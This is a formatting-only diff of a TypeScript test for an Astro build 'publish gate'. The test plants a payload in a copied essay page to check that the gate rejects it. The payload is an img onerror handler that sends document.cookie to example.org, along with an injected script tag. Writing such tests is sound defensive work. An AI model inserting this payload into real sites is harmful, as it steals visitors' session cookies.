@@ -19,7 +19,10 @@ function tamperedCopy(name: string): string {
   mkdirSync(copy, { recursive: true });
   cpSync(path.join(DIST, 'essays'), path.join(copy, 'essays'), { recursive: true });
   const file = path.join(copy, ESSAY);
-  const html = readFileSync(file, 'utf8').replace('<div class="prose', '<img src="x" onerror="fetch(`//example.org/?`+document.cookie)"><script>document.title = 1</script><div class="prose');
+  const html = readFileSync(file, 'utf8').replace(
+    '<div class="prose',
+    '<img src="x" onerror="fetch(`//example.org/?`+document.cookie)"><script>document.title = 1</script><div class="prose',
+  );
   writeFileSync(file, html);
   return copy;
 }
@@ -44,7 +47,10 @@ describe('the publish gate', () => {
     const exit = vi.spyOn(process, 'exit').mockImplementation(() => undefined as never);
     const errors: string[] = [];
     const logger = { error: (message: string) => errors.push(message) };
-    const hook = publishGate().hooks['astro:build:done'] as unknown as (options: { dir: URL; logger: typeof logger }) => void;
+    const hook = publishGate().hooks['astro:build:done'] as unknown as (options: {
+      dir: URL;
+      logger: typeof logger;
+    }) => void;
     hook({ dir: pathToFileURL(`${copy}/`), logger: { ...logger, info: () => undefined } as typeof logger });
     const calls = exit.mock.calls.slice();
     exit.mockRestore();
